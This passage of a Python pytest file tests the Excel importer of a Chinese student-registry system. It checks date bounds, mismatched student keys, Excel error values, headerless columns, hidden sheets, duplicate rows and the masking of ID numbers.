        (5, "照片采集日期", "2100-01-01", "excel.date_out_of_range"),
    ]
    assert report.errors[0].message_zh == "日期 9999-12-31 不在 1900-01-01 至 2099-12-31 之间"
    assert report.errors[0].message_en.endswith("is not between 1900-01-01 and 2099-12-31")
    assert [a.row for a in report.applied] == [2]
    classes = workbook(
        tmp_path / "c.xlsx",
        ["班级", "学校代码", "班级名称", "年级", "班主任姓名", "建班年月"],
        [["A-8", "A", "8班", 1, "王老师", "9999-09"], ["A-9", "A", "9班", 1, "王老师", "0000-09"]],
    )
    report = excel.import_classes(province.reg, A, classes, all_or_nothing=False)
    assert [(e.row, e.code) for e in report.errors] == [
        (2, "excel.date_out_of_range"),
        (3, "excel.bad_date"),
    ]


def test_art18_a_row_whose_two_keys_name_different_students_is_refused(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: a graduation or information row whose 学籍号 and
    身份证号 named two students changed the 学籍号's student without a word (s1
    graduated with s2's ID number on the row). Both keys given must name one
    student: otherwise ``excel.key_mismatch`` of the row (the number masked)."""
    s1, s2 = province.register("A", 6), province.register("A", 6)
    province.at(D(2027, 7, 1))
    header = ["学校代码", "学籍号", "身份证号", "毕结业"]
    stranger = make_id(D(2014, 6, 1))  # no student of the school holds it
    rows = [
        ["A", s1.registry_number, s2.id_number, "毕业"],
        ["A", s2.registry_number, stranger, "毕业"],
        ["A", s1.registry_number, s1.id_number, "毕业"],  # one student: applied
    ]
    path = workbook(tmp_path / "g.xlsx", header, rows)
    report = excel.import_graduation(province.reg, A, path, all_or_nothing=False)
    got = [(e.row, e.column, e.value, e.code) for e in report.errors]
    assert got == [
        (2, "身份证号", excel.mask(str(s2.id_number)), "excel.key_mismatch"),
        (3, "身份证号", excel.mask(stranger), "excel.key_mismatch"),
    ]
    assert f"学籍号是学生 {s1.id} 的，身份证号是本校另一学生（{s2.id}）的" in (
        report.errors[0].message_zh
    )
    assert "no student of this school holds the ID number" in report.errors[1].message_en
    assert str(s2.id_number) not in repr(report)
    assert [a.row for a in report.applied] == [4]
    assert province.reg.student(A, s2.id).status is StudentStatus.REGISTERED
    info = [["A", s1.registry_number, s2.id_number, "处分", "2027-07-01", "警告", None, None]]
    report = excel.import_info(province.reg, A, workbook(tmp_path / "i.xlsx", INFO_HEADER, info))
    assert [e.code for e in report.errors] == ["excel.key_mismatch"]
    assert not province.reg.student(A, s1.id).info
    assert not province.reg.student(A, s2.id).info


def _rewritten(path: Path, part: str, edit: Any) -> Path:
    """The workbook at ``path`` with its part ``part`` (XML text) passed through ``edit``:
    what another program writes, which openpyxl does not."""
    import zipfile

    data = {}
    with zipfile.ZipFile(path) as src:
        for item in src.infolist():
            data[item] = src.read(item.filename)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item, body in data.items():
            dst.writestr(item, edit(body.decode()).encode() if item.filename == part else body)
    return path


def test_art12_an_excel_error_value_is_a_cell_error(province: Province, tmp_path: Path) -> None:
    """Found by the Excel review: an error value cached in a cell (``=VLOOKUP(...)``
    finding no photo: ``#N/A``) was read as text, so a 照片摘要 of #N/A passed the Art
    12 photo rule and a student named #N/A was entered. Each is
    ``excel.cell_error`` of its cell, naming the column; an information row's other
    columns (its data) are checked alike."""
    rows = [
        student_row("#N/A"),  # row 2: an error cell (openpyxl writes "#N/A" as one)
        student_row("乙", D(2020, 5, 6), 身份证号=make_id(D(2020, 5, 6)), 照片摘要="=VLOOKUP(1)"),
        student_row("丙", D(2020, 7, 8), 身份证号=make_id(D(2020, 7, 8)), 随迁子女="#VALUE!"),
    ]
    path = workbook(tmp_path / "e.xlsx", HEADER, rows)
    # row 3's photo: a formula whose computed value is #N/A, as Excel saves it
    _rewritten(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(
            '<c r="K3"><f>VLOOKUP(1)</f><v /></c>',
            '<c r="K3" t="e"><f>VLOOKUP(1)</f><v>#N/A</v></c>',
        ),
    )
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.value, e.code) for e in report.errors] == [
        (2, "姓名", "#N/A", "excel.cell_error"),
        (3, "照片摘要", "#N/A", "excel.cell_error"),
        (4, "随迁子女", "#VALUE!", "excel.cell_error"),
    ]
    assert report.errors[1].message_zh.startswith("“照片摘要”列的单元格是 Excel 错误值 #N/A")
    assert report.errors[1].message_en.startswith("the 照片摘要 cell holds the Excel error #N/A")
    assert report.applied == ()
    assert not province.reg.students_of(A, "A")
    s = province.register("A", 1)
    info = [["A", s.registry_number, None, "成绩", "2026-09-21", "期中", "语文", "#DIV/0!"]]
    report = excel.import_info(province.reg, A, workbook(tmp_path / "i.xlsx", INFO_HEADER, info))
    assert [(e.row, e.column, e.code) for e in report.errors] == [(2, "分数", "excel.cell_error")]
    assert not province.reg.student(A, s.id).info


def test_art12_data_under_no_header_is_a_row_error(province: Province, tmp_path: Path) -> None:
    """Found by the Excel review: a column with data but a blank header (a header
    cleared by mistake) was skipped and not listed: 随迁子女 = 是 under it entered the
    student as not migrant, exit 0. A cell under no header (a blank header cell, or
    past the header's last) is ``excel.no_header`` of its row, naming the column by
    its letter; a row with nothing there is read as before."""
    header = [*HEADER]
    header[HEADER.index("随迁子女")] = None  # column I
    rows = [
        student_row("甲", 随迁子女="是"),  # row 2
        student_row("乙", D(2020, 5, 6), 身份证号=make_id(D(2020, 5, 6)), 随迁子女=None),
        [*student_row("丙", D(2020, 7, 8), 身份证号=make_id(D(2020, 7, 8)), 随迁子女=None), "备注"],
    ]
    path = workbook(tmp_path / "n.xlsx", header, rows)
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.value, e.code) for e in report.errors] == [
        (2, "I列", "是", "excel.no_header"),
        (4, "L列", "备注", "excel.no_header"),
    ]
    assert report.errors[0].message_zh.startswith("I列没有表头，此行却在该列填有数据")
    assert report.errors[0].message_en.startswith("column I has no header, yet this row")
    assert [a.row for a in report.applied] == [3]
    assert report.ignored_columns == ()


def test_art17_an_information_column_written_twice_refuses_the_sheet(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: an information sheet with 科目, 分数, 科目, 分数 kept
    the last pair only (the first lost without a word). The information import keeps
    its other columns as the entry's data, so one written twice refuses the sheet, as
    a known column written twice does (``excel.duplicate_column``); the other imports
    ignore every copy of an unknown column and list its name."""
    s = province.register("A", 1)
    header = [*INFO_HEADER, "科目", "分数"]
    rows = [["A", s.registry_number, None, "成绩", "2026-09-21", "期中", "语文", 80, "数学", 90]]
    report = excel.import_info(province.reg, A, workbook(tmp_path / "i.xlsx", header, rows))
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (1, "分数", "excel.duplicate_column"),
        (1, "科目", "excel.duplicate_column"),
    ]
    assert report.held == (2,)
    assert not report.committed
    assert not province.reg.student(A, s.id).info
    twice = [*HEADER, "备注", "备注"]
    path = workbook(tmp_path / "s.xlsx", twice, [[*student_row("甲"), "一", "二"]])
    report = excel.import_students(province.reg, A, path)
    assert report.ok
    assert report.ignored_columns == ("备注",)


def test_art12_a_hidden_first_sheet_is_not_the_one_imported(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: a template whose first sheet (its example rows) is
    hidden had that sheet imported, the clerk's visible sheet not read. An import
    with no sheet named reads the first visible sheet; the hidden one is still read
    when named."""
    born = D(2020, 5, 1)
    path = sheets(
        tmp_path / "t.xlsx",
        {
            "模板": [HEADER, student_row("示例学生")],
            "学生": [HEADER, student_row("真学生", born, 身份证号=make_id(born))],
        },
        hidden=("模板",),
    )
    report = excel.import_students(province.reg, A, path)
    assert report.ok, report.errors
    assert (report.sheet, report.unread_sheets, report.notices) == ("学生", (), ())
    assert [s.name for s in province.reg.students_of(A, "A")] == ["真学生"]
    example = excel.import_students(province.reg, A, path, sheet="模板")
    assert example.sheet == "模板"
    assert [a.row for a in example.applied] == [2]


def test_art17_an_entry_on_the_record_is_not_recorded_again_by_another_importer(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: the school imported an award, then its county the
    same file: the report said "already recorded" and the entry was recorded a second
    time (the idempotency key is the importer's; the note's check was not). An entry
    already on the record, however it got there (an import by anyone, or
    ``add_info``), is not recorded again, and the note says so."""
    s = province.register("A", 1)
    rows: list[list[object]] = [["A", s.registry_number, None, "奖励", "2026-09-01", "三好学生"]]
    path = workbook(tmp_path / "i.xlsx", INFO_HEADER[:6], rows)
    first = excel.import_info(province.reg, A, path)
    assert first.ok
    assert "already recorded" not in first.applied[0].note
    again = excel.import_info(province.reg, authority("340104"), path)
    assert again.ok
    assert again.applied[0].note.endswith("(已有相同条目 already recorded)")
    assert len(province.reg.student(A, s.id).info[InfoGroup.AWARD]) == 1
    assert [e.command for e in province.log()].count("add_info") == 1


def _prefixed(xml: str) -> str:
    """A sheet's XML with the main namespace under the prefix ``x:`` (as some programs
    write it): ``<x:worksheet xmlns:x=...><x:sheetData><x:row>...``."""
    main_ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    xml = xml.replace(main_ns, main_ns.replace("xmlns=", "xmlns:x="))
    return re.sub(r"<(/?)([A-Za-z]+)([ >/])", r"<\1x:\2\3", xml)


def test_art12_a_formula_with_no_value_is_found_under_a_namespace_prefix(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: the scan for formulas looked for ``<f>`` and ``<f ``
    only; a sheet written with a namespace prefix (``<x:f>``) holding a formula with no
    computed value in 随迁子女 imported the student as not migrant, exit 0."""
    row = student_row("甲", 随迁子女='=IF(1=1,"是","否")')
    path = workbook(tmp_path / "p.xlsx", HEADER, [row])
    _rewritten(path, "xl/worksheets/sheet1.xml", _prefixed)
    report = excel.import_students(province.reg, A, path)
    assert [(e.row, e.column, e.value, e.code) for e in report.errors] == [
        (2, "随迁子女", '=IF(1=1,"是","否")', "excel.formula_no_value")
    ]
    assert not province.reg.students_of(A, "A")


def _builtin_format(xml: str, fmt_id: int) -> str:
    """styles.xml with its custom ``年`` format dropped and its cells given the
    built-in ``numFmtId`` ``fmt_id`` (no format text: as Excel in a Chinese locale
    saves 2020年3月1日)."""
    m = re.search(r'<numFmt numFmtId="(\d+)" formatCode="[^"]*年[^"]*"\s*/>', xml)
    assert m is not None
    xml = xml.replace(m[0], "")
    return xml.replace(f'numFmtId="{m[1]}"', f'numFmtId="{fmt_id}"')


@pytest.mark.parametrize("fmt_id", [27, 31, 36, 57])
def test_art12_a_date_in_a_built_in_chinese_date_format_is_read_as_a_date(
    province: Province, tmp_path: Path, fmt_id: int
) -> None:
    """Found by the Excel review: a birth date in Excel's built-in Chinese format
    (numFmtId 31, 2020年3月1日; 27-36 and 50-58 are the East Asian dates and times)
    arrived as its serial number, 43891, openpyxl knowing no format text for the id,
    and was refused as a bad date. Those ids are read as dates."""
    path = workbook(tmp_path / "d.xlsx", HEADER, [student_row("甲")])
    wb = openpyxl.load_workbook(path)
    wb.active["F2"].number_format = 'yyyy"年"m"月"d"日"'
    wb.save(path)
    _rewritten(path, "xl/styles.xml", lambda xml: _builtin_format(xml, fmt_id))
    plain = openpyxl.load_workbook(path, read_only=True)
    assert next(plain.active.iter_rows(min_row=2, values_only=True))[5] == 43891  # openpyxl
    plain.close()
    report = excel.import_students(province.reg, A, path)
    assert report.ok, report.errors
    assert [s.birth_date for s in province.reg.students_of(A, "A")] == [BORN]


def test_art12_a_row_given_twice_in_one_file_is_a_duplicate_row(
    province: Province, tmp_path: Path
) -> None:
    """Found by the Excel review: a student row copied twice into one file was
    reported as "already present" (the record its first copy had just entered),
    where the graduation and tree imports say ``excel.duplicate_row``. The later copy
    is that error, naming the first row, in one slice or across slices; a row whose
    record was in the store before the import is still "already present"."""
    born = D(2020, 5, 6)
    row, other = student_row("甲"), student_row("乙", born, 身份证号=make_id(born))
    path = workbook(tmp_path / "d.xlsx", HEADER, [row, other, list(row)])
    report = excel.import_students(province.reg, A, path, all_or_nothing=False)
    assert [(e.row, e.column, e.code) for e in report.errors] == [
        (4, "身份证号", "excel.duplicate_row")
    ]
    assert report.errors[0].message_zh == "与本文件第 2 行重复（同一学生）"
    assert report.errors[0].message_en == "the same student as row 2 of this file"
    assert [a.row for a in report.applied] == [2, 3]
    assert len(province.reg.students_of(A, "A")) == 2
    again = excel.import_students(province.reg, A, workbook(tmp_path / "a.xlsx", HEADER, [row]))
    assert again.ok
    assert again.applied[0].note == "已存在，未改动 already present"


def test_art12_a_row_given_twice_across_slices_is_a_duplicate_row(
    province: Province, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(excel, "IMPORT_SLICE", 1)
    row = student_row("甲")
    path = workbook(tmp_path / "d.xlsx", HEADER, [row, list(row)])
    report = excel.import_students(province.reg, A, path)
    assert [(e.row, e.code) for e in report.errors] == [(3, "excel.duplicate_row")]
    assert not report.committed
    assert report.held == (2,)
    assert not province.reg.students_of(A, "A")


def test_an_actor_no_command_takes_refuses_the_whole_import(
    province: Province, tmp_path: Path
) -> None:
    """Review finding: a unit import by an actor whose name was not text blamed the
    actor on every row (``command.bad_input`` in a cell's error), and any import of a
    sheet with no rows passed. Each importer refuses such an actor before it reads a
    row, as the facade's commands do."""
    from tests.test_excel_tree import UNIT_HEADER
    from xueji.model import Actor, ActorKind

    unit_row = ["3403", "蚌埠市教育局", "市级", "340300", "34", None]
    before = len(province.log())
    for bad in (Actor(ActorKind.PROVINCE, "34", None), Actor(ActorKind.SCHOOL, 5, "x"), "A"):
        for kind, header, rows in (
            (excel.import_units, UNIT_HEADER, [unit_row]),
            (excel.import_schools, ["学校代码"], []),
            (excel.import_classes, ["班级"], []),
            (excel.import_students, HEADER, []),
            (excel.import_info, INFO_HEADER, []),
            (excel.import_graduation, GRAD_HEADER, []),
        ):
            path = workbook(tmp_path / "x.xlsx", header, rows)
            with pytest.raises(XuejiError) as err:
                kind(province.reg, bad, path)  # type: ignore[arg-type]
            assert err.value.code == "command.bad_input", (kind, bad)
            assert "actor" in err.value.message_en
    assert len(province.log()) == before


@pytest.mark.parametrize("all_or_nothing", [True, False])
def test_art12_a_row_given_twice_is_a_duplicate_row_when_its_first_copy_is_present(
    province: Province, tmp_path: Path, all_or_nothing: bool
) -> None:
    """Found by the bulk review: a row copied twice was ``excel.duplicate_row`` on a
    fresh store, but when the first copy's record was in the store already (the file
    imported before, or the rest of a ``--partial`` import run again) both copies were
    "already present": the copy went unreported. Each row's student (school, ID number
    or guardian's, name, birth date) is now followed through the whole file, and a
    later row of the same student is ``excel.duplicate_row`` either way."""
    header = [*HEADER, "监护人身份证号"]
    guardian = make_id(D(1985, 1, 1))
    row = [*student_row("甲"), None]
    child = [*student_row("乙", 身份证号=None), guardian]  # known by a guardian's ID only
    first = excel.import_students(
        province.reg, A, workbook(tmp_path / "first.xlsx", header, [row, child])
    )
    assert first.ok, first.errors
    path = workbook(tmp_path / "again.xlsx", header, [row, child, list(row), list(child)])
    for store in ("present", "fresh"):
        reg = province.reg if store == "present" else Province().reg
        report = excel.import_students(reg, A, path, all_or_nothing=all_or_nothing)
        assert [(e.row, e.code) for e in report.errors] == [
            (4, "excel.duplicate_row"),
            (5, "excel.duplicate_row"),
        ], store
        assert [e.message_en for e in report.errors] == [
            "the same student as row 2 of this file",
            "the same student as row 3 of this file",
        ]
        if not all_or_nothing:
            assert [a.row for a in report.applied] == [2, 3]
    assert len(province.reg.students_of(A, "A")) == 2


def test_art5_the_reports_page_names_the_national_export_s_columns_as_written() -> None:
    """Found by the documentation review: docs/reports.md named the last two columns
    随迁子女 and 残疾人; the file's header says 是否进城务工人员随迁子女 and 是否残疾人 (a
    clerk matching columns by the page looked for names the file does not have)."""
    doc = (Path(__file__).parent.parent / "docs" / "reports.md").read_text(encoding="utf-8")
    section = doc.split("## The national export (Art 5)", 1)[1]
    listed = re.search(r"in the national system's\s+form \(([^)]*)\)", section)
    assert listed is not None
    assert [c.strip() for c in listed.group(1).split(",")] == list(statistics.NATIONAL_HEADER)


def test_art13_a_foreign_card_refused_points_at_its_cell(tmp_path: Path) -> None:
    """Found by the leftovers review: under a profile that refuses a foreigner's
    permanent residence ID card (``foreign_permanent_resident_ids = false``), the
    import's ``enrolment.foreign_id_not_accepted`` pointed at the row, not the cell:
    the column is now the one the refusal's facts name (身份证号, 监护人身份证号),
    its value masked."""
    from tests.test_ids_review import _foreign

    art = ANHUI_2013.foreign_permanent_resident_ids.article
    policy = attrs.evolve(ANHUI_2013, foreign_permanent_resident_ids=Param(False, art, "否"))
    p = Province(policies=(policy,))
    card = _foreign("34", "840", "20200301")
    parent = _foreign("11", "392", "19850101", "002")
    header = [*HEADER, "监护人身份证号"]
    rows = [
        [*student_row("外籍", 身份证号=card), None],  # row 2
        [*student_row("无号", 身份证号=None), parent],  # row 3
    ]
    report = excel.import_students(
        p.reg, A, workbook(tmp_path / "f.xlsx", header, rows), all_or_nothing=False
    )
    got = [
        (e.row, e.column, e.code)
        for e in report.errors
        if e.code == "enrolment.foreign_id_not_accepted"
    ]
    assert got == [
        (2, "身份证号", "enrolment.foreign_id_not_accepted"),
        (3, "监护人身份证号", "enrolment.foreign_id_not_accepted"),
    ]
    assert all(card not in e.value and parent not in e.value for e in report.errors)
    assert all(e.value for e in report.errors if e.code == "enrolment.foreign_id_not_accepted")
